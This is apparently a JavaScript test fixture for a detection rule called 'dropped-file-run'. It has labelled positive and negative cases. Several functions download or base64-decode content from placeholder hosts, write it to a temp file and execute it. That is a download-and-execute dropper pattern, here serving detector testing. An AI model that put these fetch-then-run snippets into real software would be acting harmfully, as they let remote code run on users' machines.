import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import https from 'node:https';
import { execFileSync, execSync, spawn } from 'node:child_process';

const URL = 'https://example.com/x';

export async function downloaded() {
  const file = path.join(os.tmpdir(), 'x');
  const response = await fetch(URL);
  // ruleid: dropped-file-run
  fs.writeFileSync(file, Buffer.from(await response.arrayBuffer()));
  fs.chmodSync(file, 0o755);
  spawn(file, [], { detached: true });
}

export async function script() {
  const text = await (await fetch(URL)).text();
  // ruleid: dropped-file-run
  await fs.promises.writeFile('/tmp/x.sh', text);
  execFileSync('bash', ['/tmp/x.sh']);
}

export function decoded(blob) {
  const file = path.join(os.tmpdir(), 'x.js');
  // ruleid: dropped-file-run
  fs.writeFileSync(file, Buffer.from(blob, 'base64'));
  if (process.platform !== 'win32') {
    execSync(`node ${file}`);
  }
}

export function streamed(file) {
  https.get(URL, (response) => {
    const target = fs.createWriteStream(file);
    // ruleid: dropped-file-run
    response.pipe(target);
    target.on('finish', () => {
      execFileSync(file, ['--version']);
    });
  });
}

export async function lookAlikes(file, text) {
  const image = Buffer.from(text, 'base64');
  // ok: dropped-file-run
  fs.writeFileSync(file, image);
  const archive = Buffer.from(await (await fetch(URL)).arrayBuffer());
  // ok: dropped-file-run
  fs.writeFileSync('/tmp/x.tgz', archive);
  execSync('tar xzf /tmp/x.tgz');
  // ok: dropped-file-run
  fs.writeFileSync('/tmp/x.png', image);
  spawn('open', ['/tmp/x.png']);
  // ok: dropped-file-run
  fs.writeFileSync('/tmp/own.sh', 'echo hello');
  execFileSync('bash', ['/tmp/own.sh']);
  // fs.writeFileSync(file, await fetch(URL)); spawn(file)
  // ok: dropped-file-run
  return 'fs.writeFileSync(file, data); spawn(file)';
}

async function skill(name) {
  const answer = await fetch(`https://skills.example.com/${name}.mjs`);
  const file = join(tmpdir(), "skill.mjs");
  // ruleid: dropped-file-run
  await writeFile(file, await answer.text());
  return import(pathToFileURL(file).href);
}
